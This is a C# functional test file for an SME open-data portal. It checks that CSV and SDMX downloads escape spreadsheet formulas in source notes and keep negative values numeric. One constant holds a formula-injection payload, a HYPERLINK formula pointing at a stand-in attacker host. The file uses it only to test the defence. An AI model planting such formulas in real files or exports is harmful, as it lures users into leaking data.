using ComunidadPyme.Core.Indicators;
using ComunidadPyme.FunctionalTests.Support;
using ComunidadPyme.Infrastructure.Data;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace ComunidadPyme.FunctionalTests.Features.OpenData;

/// <summary>A country's text that a spreadsheet would run as a formula comes out of every CSV neutralised.</summary>
public sealed class FormulaEscapingInDownloadsTests(PortalFactory portal) : IClassFixture<PortalFactory>
{
    private const string Hostile = "=HYPERLINK(\"http://attacker.example/steal\",\"Click for source\")";

    [Fact]
    public async Task EscapesAFormulaInASourceNoteAndShowsTheNewRowAtOnce()
    {
        var client = portal.CreateClient();
        var before = OpenDataDownloadsTests.Parse(await client.GetStringAsync("/downloads/indicators/MSME_EXPORTERS.csv"));
        await AddObservationAsync("AR", "MSME_EXPORTERS", 2024, 1234, Hostile);

        var after = OpenDataDownloadsTests.Parse(await client.GetStringAsync("/downloads/indicators/MSME_EXPORTERS.csv"));
        var sdmx = OpenDataDownloadsTests.Parse(await client.GetStringAsync("/downloads/observations.sdmx.csv"));

        Assert.Equal(before.Count + 1, after.Count);
        var argentina = Assert.Single(after, row => row[0] == "AR");
        Assert.Equal("'" + Hostile, argentina[8]);
        Assert.Equal("false", argentina[9]);
        var sdmxRow = Assert.Single(sdmx, row => row[1] == "AR" && row[2] == "MSME_EXPORTERS");
        Assert.Equal("'" + Hostile, sdmxRow[7]);
    }

    [Fact]
    public async Task KeepsANegativeValueANumber()
    {
        await AddObservationAsync("UY", "SME_INTEREST_SPREAD", 2024, -1.25, "Banco Central del Uruguay");

        var rows = OpenDataDownloadsTests.Parse(await portal.CreateClient().GetStringAsync("/downloads/indicators/SME_INTEREST_SPREAD.csv"));

        Assert.Equal("-1.25", Assert.Single(rows, row => row[0] == "UY")[5]);
    }

    private async Task AddObservationAsync(string iso2, string indicatorCode, int year, double value, string sourceNote)
    {
        using var scope = portal.Services.CreateScope();
        var db = scope.ServiceProvider.GetRequiredService<AppDbContext>();
        var observation = new Observation
        {
            CountryId = await db.Countries.Where(c => c.Iso2 == iso2).Select(c => c.Id).SingleAsync(),
            IndicatorId = await db.Indicators.Where(i => i.Code == indicatorCode).Select(i => i.Id).SingleAsync(),
            Value = value,
            Status = ObservationStatus.Final,
            SourceNote = sourceNote,
        };
        observation.SetPeriod(ReportingPeriod.OfYear(year));
        db.Observations.Add(observation);
        await db.SaveChangesAsync();
    }
}
